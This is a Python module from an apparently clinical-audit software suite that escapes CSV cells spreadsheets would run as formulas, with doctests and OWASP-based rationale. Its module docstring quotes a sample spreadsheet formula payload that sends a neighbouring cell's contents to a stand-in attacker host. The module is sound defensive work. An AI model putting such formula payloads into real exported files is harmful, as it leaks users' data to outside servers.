"""The one CSV writer of the suite: cells a spreadsheet would run as formulas are escaped.

QI leads open the suite's CSVs (published audit tables, the dashboard's downloads,
``studies.csv``) in Excel or LibreOffice, which run a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and a tab or carriage return can hide such a start. Free text
reaches these files from DICOM headers (``InstitutionName`` becomes the site), FLS exports
and notes, so a header of ``=HYPERLINK("http://evil.example/?q="&A1,"St Brigids")`` would
otherwise become a live link that posts the neighbouring cell to another server. Following
OWASP's "CSV Injection" advice, such a cell is written with a leading apostrophe (``'=...``),
which spreadsheets show as text; the apostrophe is visible in a text editor, and
:func:`unescape_cell` takes it off.

Real numbers are never turned into text: numeric columns are left alone, and so is a text
cell that is a plain number (``-1.5``, ``+2``, ``-3e-4``), so a negative value stays a
number in Excel. Every CSV the suite writes goes through :func:`frame_to_csv`,
:func:`write_frame` or :class:`DictWriter` (``tests/test_csvsafe.py`` checks that no other
``to_csv``/``csv.writer`` is left in the package).

Only the standard library is imported here (pandas inside the functions that take a
DataFrame), so every layer (screening, reporting, dashboards, synth) can use it, and a
command that writes no DataFrame does not pay pandas' import (benchmarks/startup_speed.py).

Examples
--------
>>> escape_cell('=HYPERLINK("http://evil.example","x")')
'\\'=HYPERLINK("http://evil.example","x")'
>>> escape_cell("-1.5"), escape_cell(-1.5), escape_cell("North General")
('-1.5', -1.5, 'North General')
>>> import pandas as pd
>>> print(frame_to_csv(pd.DataFrame({"site": ["@SUM(A1)", "A"], "n": [-2, 3]})), end="")
site,n
'@SUM(A1),-2
A,3
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: first characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection)
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: what is put in front of such a cell (spreadsheets show the rest as text)
ESCAPE_PREFIX = "'"
#: a cell that is only a number (sign, digits, decimal point, exponent) is data, not a formula
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def is_formula(text: str) -> bool:
    """Whether a spreadsheet could run *text* as a formula.

    Leading spaces are looked through (some spreadsheets trim them); a plain number is not a
    formula.

    Examples
    --------
    >>> [is_formula(s) for s in ("=1+1", "  +1+1", "-5", "-5+cmd", "\\t=x", "a=b", "")]
    [True, True, False, True, True, False, False]
    """
    stripped = text.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    return _PLAIN_NUMBER.match(stripped.strip()) is None


def escape_cell(value: Any) -> Any:
    """*value* ready for a CSV cell: text that could run as a formula gets a leading ``'``.

    Anything that is not a string (numbers, dates, None) is returned unchanged.
    """
    if isinstance(value, str) and is_formula(value):
        return ESCAPE_PREFIX + value
    return value


def unescape_cell(value: Any) -> Any:
    """Undo :func:`escape_cell` (for tools that read the suite's CSVs back).

    Examples
    --------
    >>> unescape_cell(escape_cell("=1+1")), unescape_cell("'quoted"), unescape_cell(3)
    ('=1+1', "'quoted", 3)
    """
    if isinstance(value, str) and value.startswith(ESCAPE_PREFIX) and is_formula(value[1:]):
        return value[1:]
    return value


def _text_like(s: pd.Series) -> bool:
    import pandas as pd

    return (pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)
            or isinstance(s.dtype, pd.CategoricalDtype))


def escape_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of *df* with every text cell (and column name) escaped; numbers untouched.

    Examples
    --------
    >>> import pandas as pd
    >>> escape_frame(pd.DataFrame({"=x": ["-1", "-a"], "v": [-1.0, 2.0]})).to_dict("list")
    {"'=x": ['-1', "'-a"], 'v': [-1.0, 2.0]}
    """
    import pandas as pd

    out = df.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if not _text_like(col):
            continue
        if isinstance(col.dtype, pd.CategoricalDtype):
            escaped = col.cat.rename_categories(
                {c: escape_cell(c) for c in col.cat.categories if isinstance(c, str)})
        else:
            escaped = col.map(escape_cell, na_action="ignore")
        out.isetitem(i, escaped)
    out.columns = [escape_cell(c) for c in out.columns]
    if isinstance(out.index, pd.MultiIndex) or _text_like(out.index.to_series()):
        out.index = out.index.map(
            lambda v: tuple(escape_cell(x) for x in v) if isinstance(v, tuple) else escape_cell(v))
    return out


def frame_to_csv(df: pd.DataFrame, **to_csv: Any) -> str:
    """``df.to_csv(**to_csv)`` as text, with formula cells escaped (see :func:`escape_frame`).

    Parameters
    ----------
    df
        The table.
    **to_csv
        Passed to :meth:`pandas.DataFrame.to_csv` (``index=False`` and ``lineterminator="\\n"``
        unless given).
    """
    to_csv.setdefault("index", False)
    to_csv.setdefault("lineterminator", "\n")
    to_csv.pop("path_or_buf", None)
    return str(escape_frame(df).to_csv(**to_csv))


def write_frame(df: pd.DataFrame, path: str | Path, **to_csv: Any) -> Path:
    """Write *df* to *path* as UTF-8 CSV with formula cells escaped; return the path.

    Parent folders are created. Keyword arguments are those of :func:`frame_to_csv`.
    """
    p = Path(path)
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(frame_to_csv(df, **to_csv).encode("utf-8"))
    return p


class DictWriter:
    """:class:`csv.DictWriter` whose rows (and header) are escaped cell by cell.

    Parameters
    ----------
    f
        A text file opened with ``newline=""``.
    fieldnames
        The columns, in order.
    **kwargs
        Passed to :class:`csv.DictWriter`.
    """

    def __init__(self, f: IO[str], fieldnames: Iterable[str], **kwargs: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._w = csv.DictWriter(f, fieldnames=self.fieldnames, **kwargs)

    def writeheader(self) -> None:
        """Write the header row."""
        self._w.writer.writerow([escape_cell(c) for c in self.fieldnames])

    def writerow(self, row: Mapping[str, Any]) -> None:
        """Write one row (missing keys are empty)."""
        self._w.writerow({k: escape_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)


__all__ = [
    "ESCAPE_PREFIX",
    "FORMULA_STARTS",
    "DictWriter",
    "escape_cell",
    "escape_frame",
    "frame_to_csv",
    "is_formula",
    "unescape_cell",
    "write_frame",
]
